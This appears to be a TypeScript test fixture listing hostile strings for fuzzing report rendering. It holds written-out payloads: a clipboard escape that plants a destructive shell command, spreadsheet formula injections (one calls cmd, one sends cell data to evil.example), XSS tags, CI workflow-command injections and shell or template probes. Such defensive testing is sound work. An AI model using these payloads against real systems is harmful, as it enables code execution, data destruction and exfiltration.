import { cases, NIGHT } from '../night.js';

/**
 * Text as strangers write it: terminal control, bidi and invisible characters, spreadsheet formulas, markup, workflow commands, torn and
 * enormous strings, and honest names that break naive layouts.
 */
export const HOSTILE: readonly string[] = [
  // Terminal control.
  '\u001b[31mred\u001b[0m',
  '\u001b[2J\u001b[H',
  '\u001b]0;new title\u0007',
  '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
  '\u001b]52;c;cm0gLXJmIH4=\u0007',
  '\u001bP1$r0m\u001b\\',
  '\u009b31mC1 CSI',
  '\u009d0;C1 OSC\u009c',
  'back\b\b\b\bspace',
  'over\rwritten',
  'two\nlines',
  'two\r\nlines',
  'tab\tbed',
  'nul\u0000byte',
  'bell\u0007',
  'form\u000cfeed\u000bvertical',
  'del\u007f\u007f',
  'next\u0085line',
  // Bidi and invisible characters.
  'user\u202etxt.exe',
  '\u202dforced\u202c',
  '\u2066isolate\u2069',
  'mark\u200e\u200f\u061c',
  'zero\u200bwidth\u200c\u200d\u2060',
  'soft\u00adhyphen',
  '\ufeffbom',
  'line\u2028separator\u2029paragraph',
  'tags\u{e0041}\u{e0042}\u{e007f}',
  'filler\u3164\u115f\uffa0',
  'interlinear\ufff9a\ufffab\ufffb',
  // Torn and enormous.
  '\ud800lone high',
  'lone low\udc00',
  'noncharacter\ufffe\uffff\u{1fffe}\u{10ffff}\ufdd0',
  'a'.repeat(cases(1_000_000, 100_000)),
  'many words, '.repeat(cases(20_000, 3000)),
  'e' + '\u0301'.repeat(500),
  '字'.repeat(3000),
  '\u001b'.repeat(5000),
  '😀'.repeat(2500),
  ' '.repeat(400),
  '',
  // Spreadsheet formulas.
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  '+1-555-0100',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1',
  '\u2212 1',
  '"=1+1"',
  '";=1+1;"',
  'quoted "text", with; separators',
  // Markup, workflow commands, keys.
  '<script>alert(1)</script>',
  '</title><img src=x onerror=alert(1)>',
  ']]>',
  '<!-- comment --><b>',
  '-->',
  '<![CDATA[x]]><testsuite/>',
  '</testsuites>&lt;&#10;&bogus;',
  '[text](https://evil.example)![x](y)',
  '](1)',
  '[evil]: https://evil.example "t"',
  '`code` ``two`` ```three',
  '``` js',
  '`',
  '| a | b |',
  '\\| pipe \\',
  'a\\',
  '# heading',
  '> quote\n\n- item\n\n---',
  '*strong* __under__ ~~gone~~',
  'https://evil.example www.evil.example evil@evil.example @octocat #1 GH-1',
  '::error file=a::injected',
  '::stop-commands::x',
  '##[command]echo injected',
  '##[error]##[set-output name=x;]y',
  '##vso[task.complete result=Succeeded;]',
  '%0A::set-output name=x::y',
  '__proto__',
  'constructor',
  '${env:HOME} $(id) `id`',
  '{{7*7}}',
  '\\u001b[31m',
  // Honest names.
  '山田太郎',
  'ＦＵＬＬ　ＷＩＤＴＨ',
  '한국어 이름',
  'กำธร',
  'नमस्ते',
  'محمد',
  'שלום',
  '👩🏽‍💻 dev',
  '❤️ ☎️',
  '🇩🇪🇫🇷',
  'Zoë Müller-Lüdenscheidt',
  'Nguyễn Thị Minh Khai',
  '│ ┃ ─ ┼',
];

/** What is written into the text fields of a report, one call a field. */
export type Words = () => string;

/**
 * Reports are rendered with these in their text fields: by day each report holds every text, and from one to the next the texts move on to other
 * fields; by night each text stands in every field of a report of its own.
 */
export function hostileTexts(texts: readonly string[] = HOSTILE): readonly (readonly [name: string, words: () => Words])[] {
  const step = Math.ceil(texts.length / 7);
  if (NIGHT) return texts.map((text) => [JSON.stringify(text.slice(0, 40)), () => () => text]);
  return Array.from({ length: 7 }, (_, turn) => [
    `every text, the ${turn * step + 1}th first`,
    () => {
      let next = turn * step;
      return () => texts[next++ % texts.length] as string;
    },
  ]);
}
